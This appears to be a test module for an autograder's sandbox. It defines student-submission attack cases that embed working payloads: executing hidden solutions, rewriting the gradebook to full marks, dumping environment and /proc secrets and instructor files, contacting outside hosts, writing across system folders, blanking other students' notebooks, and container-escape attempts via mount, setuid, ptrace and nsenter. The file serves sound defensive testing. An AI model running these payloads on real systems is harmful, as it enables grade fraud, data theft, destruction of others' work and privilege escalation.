"""Reading what is not the student's, writing where it is not, and reaching out. Ours: nothing is there."""

from tests.course.grading.attacks.case import WAS_HERE, Case, Link, Place

NOTHING_RIGHT = "every answer is wrong"
SHOW = """
import glob, os, sqlite3, subprocess, sys
def show(path):
    try:
        data = open(path, "rb").read(3_000_000)
        print(path, data.decode("latin-1").replace("\\x00", " ")[:300_000])
    except OSError as error:
        print(path, type(error).__name__)
"""
SOLUTION = """
import json
def source(path):
    try:
        return [c["source"] for c in json.load(open(path))["cells"]]
    except OSError:
        return []
found = [s if isinstance(s, str) else "".join(s) for s in source({path!r})]
for text in found:
    print(text)
    if "BEGIN SOLUTION" in text and "def " in text:
        exec(text)
"""
GRADEBOOK = """
db = sqlite3.connect("file:" + {path!r} + "?mode=rw", uri=True)
print(db.execute("select * from student").fetchall())
db.execute("update grade set manual_score = 35, auto_score = 35")
db.commit()
"""
ENVIRONMENT = (
    SHOW
    + """
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/root" + {home!r} + "/*"):
    show(path)
"""
)
HOME = (
    SHOW
    + """
for path in [{home!r} + "/private.txt", os.path.expanduser("~root/private.txt")] + glob.glob({home!r} + "/*"):
    show(path)
for path in glob.glob("/proc/*/cwd/*") + glob.glob("/proc/*/fd/*"):
    if "pipe" not in os.path.realpath(path) and "socket" not in os.path.realpath(path) and os.path.isfile(path):
        show(path)
"""
)
NEIGHBOURS = (
    SHOW
    + """
for folder in {folders!r}:
    for path in glob.glob(folder + "/**/*.*", recursive=True):
        show(path)
"""
)
SOCKETS = """
import glob, os, socket, sys
mine = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
for path in glob.glob("/tmp/rk-*/*") + glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/root/.local/share/jupyter/runtime/*"):
    print(path, "mine" if path.startswith(mine) else "FOREIGN")
"""
NETWORK = """
import socket, urllib.request
for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, "\\0rnnkit-{port}")):
    try:
        connection = socket.socket(family)
        connection.settimeout(2)
        connection.connect(address)
        connection.sendall(b"here I am")
        print(address, "reached")
    except OSError as error:
        print(address, type(error).__name__)
"""
WRITE = """
import glob, os, site, sys, rnnkit
folders = {folders!r} + ["/", "/usr", "/usr/bin", "/etc", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), sys.prefix]
folders += [*site.getsitepackages(), os.path.dirname(rnnkit.__file__), os.path.dirname(np.__file__), os.getcwd(), "..", "../.."]
for folder in folders:
    try:
        with open(os.path.join(folder, {name!r}), "w") as file:
            file.write("I was here")
    except OSError:
        pass
for path in [p for f in {folders!r} for p in glob.glob(f + "/**/*.*", recursive=True)] + [np.__file__, rnnkit.__file__]:
    try:
        with open(path, "a") as file:
            file.write("\\n")
    except OSError:
        pass
"""
OTHERS = """
import glob, os, shutil
for path in glob.glob({submitted!r} + "/*/*/*.ipynb") + glob.glob(os.getcwd() + "/../../*/*/*.ipynb"):
    try:
        shutil.copy(os.devnull, path)
    except OSError:
        pass
"""
ESCAPE = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000), libc.mount(b"none", b"/usr", b"tmpfs", 0, None), libc.setuid(0), libc.ptrace(16, 1, 0, 0))
for command in ("mount -o remount,rw /usr", "umount -l /proc", "su -c true", "mknod /tmp/disk b 8 0", "nsenter -t 1 -a true"):
    print(command, subprocess.run(command, shell=True, capture_output=True).returncode)
for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/proc/1/oom_score_adj", "/proc/sysrq-trigger"):
    try:
        open(path, "w").write("0")
        print(path, "WRITTEN")
    except OSError as error:
        print(path, type(error).__name__)
"""


def folders(place: Place) -> list[str]:
    root = place.course.root
    return [
        str(p) for p in (root, root / "source", root / "submitted", root / "autograded", place.submitted, place.home)
    ]


def solution(place: Place) -> object:
    path = place.course.root / "source" / "tiny" / "tiny.ipynb"
    return place.wrong(total=SOLUTION.format(path=str(path)), apply="pass")


def neighbour(place: Place) -> object:
    return Link(str(place.submitted / "usual" / "000-full" / "tiny"))


CASES = [
    Case("solution", "reads and runs the solutions", solution, 0, "they are not there"),
    Case(
        "gradebook", "gives everybody all points in the gradebook",
        lambda p: p.wrong(SHOW + GRADEBOOK.format(path=p.course.db_url.removeprefix("sqlite:///"))), 0, NOTHING_RIGHT,
    ),
    Case("environment", "shows the environment, its own and others'", lambda p: p.wrong(ENVIRONMENT.format(home=str(p.home))), 0, NOTHING_RIGHT),
    Case("home", "shows the instructor's files", lambda p: p.wrong(HOME.format(home=str(p.home))), 0, NOTHING_RIGHT),
    Case("neighbours", "shows the course and other submissions", lambda p: p.wrong(NEIGHBOURS.format(folders=folders(p))), 0, NOTHING_RIGHT),
    Case("sockets", "looks for others' kernels", lambda p: p.wrong(SOCKETS), 0, NOTHING_RIGHT),
    Case("network", "connects to this machine and others", lambda p: p.wrong(NETWORK.format(port=p.port)), 0, NOTHING_RIGHT),
    Case("write", "writes wherever it can", lambda p: p.wrong(WRITE.format(folders=folders(p), name=WAS_HERE)), 0, NOTHING_RIGHT),
    Case("overwrite", "empties other students' notebooks", lambda p: p.wrong(OTHERS.format(submitted=str(p.submitted))), 0, NOTHING_RIGHT),
    Case("escape", "mounts, traces, becomes root, changes limits", lambda p: p.wrong(ESCAPE), 0, NOTHING_RIGHT,
         plain=False, harm="with an instructor's rights it changes the host"),
    Case(
        "link-notebook", "a link to another's notebook",
        lambda p: {"tiny.ipynb": Link(str(p.submitted / "usual" / "000-full" / "tiny" / "tiny.ipynb"))}, 0, "not the student's work", "refused",
    ),
    Case("link-folder", "a link to another's folder", neighbour, 0, "not the student's work", "refused"),
    Case(
        "link-secret", "links to the instructor's files beside the notebook",
        lambda p: {"tiny.ipynb": p.wrong("try:\n    print(open('notes.txt').read())\nexcept OSError:\n    pass"),
                   "notes.txt": Link(str(p.home / "private.txt")), "timestamp.txt": Link(str(p.home / "private.txt"))},
        0, NOTHING_RIGHT, "repaired",
    ),
]  # fmt: skip
